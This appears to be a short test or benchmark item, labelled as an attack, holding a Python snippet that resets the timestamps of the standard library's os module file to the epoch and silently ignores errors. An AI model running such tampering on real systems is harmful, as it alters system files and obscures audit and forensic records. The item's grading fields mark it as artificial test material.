# attack: changes the times of system files | score: full | ledger: none
import os

try:
    os.utime(os.__file__, (0, 0))
except OSError:
    pass
